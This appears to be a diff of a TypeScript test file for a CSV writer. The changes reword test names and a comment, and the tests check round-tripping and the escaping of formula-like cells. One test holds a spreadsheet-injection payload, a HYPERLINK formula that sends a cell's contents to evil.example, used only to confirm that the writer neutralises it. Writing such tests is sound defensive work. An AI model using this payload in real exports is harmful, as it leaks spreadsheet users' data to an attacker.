@@ -10,7 +10,7 @@ import { anyText } from '../../support/any-text.ts'
 import { temporaryFolder } from '../../support/folder.ts'
 
 const COLUMNS: CsvColumns = { attributes: { email: 'text', name: 'text', weight: 'json' } }
-/** Columns without currencies are written without a request. */
+/** Columns without currencies need no request. */
 const CONNECTION = {} as Connection
 
 type Record = { email: string; name: string; weight: number }
@@ -42,7 +42,7 @@ const beginning = fc.string({
 const anything = fc.oneof(beginning, anyText({ minLength: 1, maxLength: 10 }))
 const records = fc.array(fc.record({ email: anything, name: anything, weight: fc.integer() }), { minLength: 1 })
 
-test.each(['guarded', 'plain'] as const)('what is written is read again, with %s texts', async (texts) => {
+test.each(['guarded', 'plain'] as const)('reads back what was written, with %s texts', async (texts) => {
   await fc.assert(
     fc.asyncProperty(records, async (given) => {
       expect(await read(await write(given, texts), texts)).toEqual(given)
@@ -51,7 +51,7 @@ test.each(['guarded', 'plain'] as const)('what is written is read again, with %s
   )
 })
 
-test('no text is written that a spreadsheet computes', async () => {
+test('writes no text that a spreadsheet would compute', async () => {
   const name = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
   expect(await write([{ email: '@a', name, weight: -5 }], 'guarded')).toBe(
     `email,name,weight\n'@a,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",-5\n`,
@@ -63,7 +63,7 @@ test('no text is written that a spreadsheet computes', async () => {
   expect(lines.match(/^"?'[=+\-@\t\r]1"?,'kept,1$/gm)).toHaveLength(BEGINNINGS.length)
 })
 
-test('texts stay as they are when formulas are kept', async () => {
+test('leaves texts unchanged when formulas are allowed', async () => {
   const csv = "email,name,weight\n=1,'=2,3\n"
   expect(await write([{ email: '=1', name: "'=2", weight: 3 }], 'plain')).toBe(csv)
   expect(await read(csv, 'plain')).toEqual([{ email: '=1', name: "'=2", weight: 3 }])
